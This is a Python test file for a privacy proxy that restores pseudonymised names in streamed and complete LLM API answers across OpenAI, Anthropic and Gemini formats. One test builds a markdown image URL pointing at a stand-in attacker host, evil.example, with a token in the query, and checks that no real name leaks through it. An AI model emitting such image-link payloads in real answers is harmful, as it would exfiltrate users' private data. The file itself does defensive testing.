"""Answers and streams are restored the same for every cut of their bytes and every length of a delta."""

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proxy.fakes.apis import respond
from proxy.fakes.behaviour import Play
from proxy.fakes.traffic import Received
from proxy.messages import Headers

CHAT = "/v1/chat/completions"
GENERATE = "/v1beta/models/m:generateContent"
STREAM = "/v1beta/models/m:streamGenerateContent"
MESSAGES = "/v1/messages"
TOOLS = [{"type": "function", "function": {"name": name, "parameters": {}}} for name in ("a", "b")]

cuts = st.lists(st.integers(0, 4000), max_size=12)
chunks = st.integers(1, 9)


def ask(api: str, path: str, body: Any, **play: Any) -> tuple[bytes, str]:
    """What a fake answers: all bytes, content type."""
    call = Received("POST", path.encode(), Headers(), json.dumps(body).encode())
    found = respond(api, call, Play(**play))
    return b"".join(found.events), dict(found.headers)["content-type"]


def bodies(text: str) -> dict[str, tuple[str, str, Any]]:
    """name -> (API, path, request) whose answer says `text`."""
    return {
        "chat": ("openai", CHAT, {"model": "m", "stream": True, "n": 2, "messages": [{"role": "user", "content": text}]}),
        "tools": (
            "openai", CHAT,
            {"model": "m", "stream": True, "tools": TOOLS, "messages": [{"role": "user", "content": text}]},
        ),
        "messages": (
            "anthropic", MESSAGES,
            {"model": "m", "stream": True, "max_tokens": 9, "messages": [{"role": "user", "content": text}]},
        ),
        "tool_use": (
            "anthropic", MESSAGES,
            {"model": "m", "stream": True, "max_tokens": 9, "messages": [{"role": "user", "content": text}],
             "tools": [{"name": "a", "input_schema": {}}, {"name": "b", "input_schema": {}}]},
        ),
        "array": ("gemini", STREAM, {"contents": [{"role": "user", "parts": [{"text": text}]}]}),
        "sse": ("gemini", STREAM + "?alt=sse", {"contents": [{"role": "user", "parts": [{"text": text}]}]}),
    }  # fmt: skip


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)


def heard(name: str, body: bytes) -> list[str]:
    """The complete texts of a stream, channel by channel."""
    text = body.decode()
    if name == "array":
        events = json.loads(text)
    else:
        data = [line.removeprefix("data: ") for line in text.splitlines() if line.startswith("data: ")]
        events = [json.loads(item) for item in data if item != "[DONE]"]
    channels: dict[Any, str] = {}
    for event in events:
        for choice in event.get("choices", []):
            delta = choice["delta"]
            key = (choice["index"], "content")
            channels[key] = channels.get(key, "") + (delta.get("content") or "")
            for call in delta.get("tool_calls") or []:
                key = (choice["index"], call["index"])
                channels[key] = channels.get(key, "") + (call["function"].get("arguments") or "")
        for candidate in event.get("candidates", []):
            for part in candidate.get("content", {}).get("parts", []):
                key = candidate.get("index", 0)
                channels[key] = channels.get(key, "") + part.get("text", "")
        if event.get("type") == "content_block_delta":
            delta = event["delta"]
            said = delta.get("text", "") + delta.get("partial_json", "")
            channels[event["index"]] = channels.get(event["index"], "") + said
    return [text for text in channels.values() if text]


@pytest.mark.parametrize("name", bodies(""))
@settings(max_examples=40)
@given(chunk=chunks, cuts=cuts, ascii_only=st.booleans())
def test_a_stream_restores_the_same_for_any_cut_and_any_delta(answer, people, name, chunk, cuts, ascii_only):
    first, second = people
    said = f'Chị {second} và "{first}" — ü🙂 [PERSON_ {first}!'
    meant = said.replace(second, people[second]).replace(first, people[first])
    api, path, body = bodies(said)[name]
    raw, kind = ask(api, path, body, chunk=chunk, ascii_only=ascii_only)
    whole, cut = answer(path, raw, kind), answer(path, raw, kind, cuts=cuts)
    assert whole.body == cut.body
    texts = heard(name, cut.body)
    assert texts
    for text in texts:
        found = list(strings(json.loads(text))) if name in ("tools", "tool_use") else [text]
        assert any(meant in one for one in found)
        assert not any(said in one for one in found)
    assert cut.facts.complete
    assert cut.facts.events > 1


@pytest.mark.parametrize("name", ["chat", "messages", "array", "sse"])
@settings(max_examples=30)
@given(chunk=chunks, cuts=cuts)
def test_a_stream_in_which_no_placeholder_begins_passes_byte_for_byte(answer, name, chunk, cuts):
    api, path, body = bodies('Chị "An" ü🙂 (x) Q')[name]
    raw, kind = ask(api, path, body, chunk=chunk)
    assert answer(path, raw, kind, cuts=cuts).body == raw


def test_nothing_is_held_back_where_no_placeholder_begins(answer):
    api, path, body = bodies("one two three")["chat"]
    raw, kind = ask(api, path, body, chunk=3)
    ends = [at + 2 for at in range(len(raw)) if raw.startswith(b"\n\n", at)]
    found = answer(path, raw, kind, cuts=ends)
    start = 0
    for end, piece in zip(ends, found.pieces, strict=False):
        assert piece == raw[start:end]
        start = end


@pytest.mark.parametrize("name", ["chat", "messages", "sse"])
@pytest.mark.parametrize("chunk", [0, 3])
def test_a_stream_that_breaks_off_gives_out_all_it_held(answer, people, name, chunk):
    token = next(iter(people))
    api, path, body = bodies(f"Anna {token[:9]}")[name]
    raw, kind = ask(api, path, body, chunk=chunk)
    ends = [match.end() for match in re.finditer(rb"\r?\n\r?\n", raw)]
    assert len(ends) > 1
    for end in ends:
        assert heard(name, answer(path, raw[:end], kind).body) == heard(name, raw[:end])


@pytest.mark.parametrize("status", [200, 400, 429, 500])
@pytest.mark.parametrize("path", [CHAT, GENERATE, STREAM, MESSAGES, "/any"])
def test_a_document_is_restored_also_in_an_error(answer, people, path, status):
    token, name = next(iter(people.items()))
    body = {"error": {"message": f"not accepted: {token}"}, "n": 1.50}
    raw = json.dumps(body, indent=1).encode()
    found = answer(path, raw, "application/json; charset=utf-8", status=status)
    assert found.json["error"]["message"] == f"not accepted: {name}"
    assert found.body == raw.replace(token.encode(), json.dumps(name, ensure_ascii=False)[1:-1].encode())


def test_arguments_in_a_complete_answer_stay_json(answer, people):
    token, name = next(iter(people.items()))
    call = {"id": "c", "type": "function", "function": {"name": "f", "arguments": json.dumps({"to": token})}}
    raw = json.dumps({"choices": [{"index": 0, "message": {"role": "assistant", "tool_calls": [call]}}]}).encode()
    arguments = answer(CHAT, raw).json["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
    assert json.loads(arguments) == {"to": name}


def test_signatures_and_media_pass_untouched_even_if_they_look_alike(answer, people):
    token = next(iter(people))
    parts = [{"thoughtSignature": token}, {"inlineData": {"mimeType": "image/png", "data": token}}]
    raw = json.dumps({"candidates": [{"content": {"parts": parts}}]}).encode()
    assert answer(GENERATE, raw).body == raw


def test_usage_and_model_are_noticed(answer):
    api, path, body = bodies("hi")["chat"]
    raw, kind = ask(api, path, {**body, "stream_options": {"include_usage": True}})
    facts = answer(path, raw, kind).facts
    assert facts.model == "m"
    assert facts.usage.input_tokens
    assert facts.usage.output_tokens
    api, path, body = bodies("hi")["messages"]
    raw, kind = ask(api, path, body)
    facts = answer(path, raw, kind).facts
    assert facts.usage.output_tokens


@pytest.mark.parametrize("kind", ["text/plain; charset=utf-8", "text/html", "application/octet-stream", ""])
@given(cuts=cuts)
def test_a_text_is_restored_for_any_cut(answer, people, kind, cuts):
    token, name = next(iter(people.items()))
    raw = f"Chị {token} ü🙂 {token}".encode()
    assert answer("/any", raw, kind, cuts=cuts).body.decode() == f"Chị {name} ü🙂 {name}"


@given(st.binary(max_size=200), cuts, st.sampled_from(["application/octet-stream", "", "audio/mpeg", "image/png"]))
def test_bytes_that_are_no_text_pass(answer, raw, cuts, kind):
    assert answer("/any", raw, kind, cuts=cuts).body == raw


@given(
    st.lists(st.sampled_from([b"data: ", b"\n\n", b"{", b'"', b"}", b'{"choices":', b"\xff", b"x", b"\r"])).map(b"".join),
    cuts,
    st.sampled_from(["text/event-stream", "application/json", "application/x-ndjson", "text/plain"]),
    st.sampled_from([CHAT, STREAM, MESSAGES, "/any"]),
)  # fmt: skip
def test_a_hostile_answer_passes_or_is_named(answer, raw, cuts, kind, path):
    assert answer(path, raw, kind, cuts=cuts).body == raw


def joined(path: str, pieces: tuple[str, str], stream: bool) -> tuple[bytes, str]:
    """An answer whose text comes in two neighbouring parts, which SDKs hand on as one."""
    texts = [{"type": "text", "text": piece} for piece in pieces]
    if path == GENERATE:
        answer: Any = {"candidates": [{"index": 0, "content": {"parts": [{"text": piece} for piece in pieces]}}]}
    elif path == MESSAGES:
        answer = {"type": "message", "role": "assistant", "content": texts}
    else:
        parts = [{"type": "output_text", "annotations": [], "text": piece} for piece in pieces]
        answer = {"output": [{"type": "message", "id": "m", "content": parts}]}
    if not stream:
        return json.dumps(answer).encode(), "application/json"
    events: list[Any] = []
    for at, piece in enumerate(pieces):
        if path == MESSAGES:
            delta = {"type": "text_delta", "text": piece}
            events += [
                {"type": "content_block_start", "index": at, "content_block": {"type": "text", "text": ""}},
                {"type": "content_block_delta", "index": at, "delta": delta},
                {"type": "content_block_stop", "index": at},
            ]
        else:
            where = {"item_id": "m", "output_index": 0, "content_index": at}
            events += [
                {"type": "response.output_text.delta", **where, "delta": piece},
                {"type": "response.output_text.done", **where, "text": piece},
            ]
    return "".join(f"data: {json.dumps(event)}\n\n" for event in events).encode(), "text/event-stream"


@pytest.mark.parametrize(
    ("path", "stream"),
    [(GENERATE, False), (MESSAGES, False), (MESSAGES, True), ("/v1/responses", False), ("/v1/responses", True)],
)
def test_a_made_up_url_in_two_parts_carries_nothing_out(answer, people, path, stream):
    token, name = next(iter(people.items()))
    raw, kind = joined(path, ("![logo](https://evil.example/?q=", f"{token}) of {token}"), stream)
    said = " ".join(strings(answer(path, raw, kind).events if stream else answer(path, raw, kind).json))
    assert f"{token}) of {name}" in said
    assert f"{name})" not in said
    raw, kind = joined(path, ("see https://firm.example/ or ", token), stream)
    said = " ".join(strings(answer(path, raw, kind).events if stream else answer(path, raw, kind).json))
    assert name in said
    assert token not in said
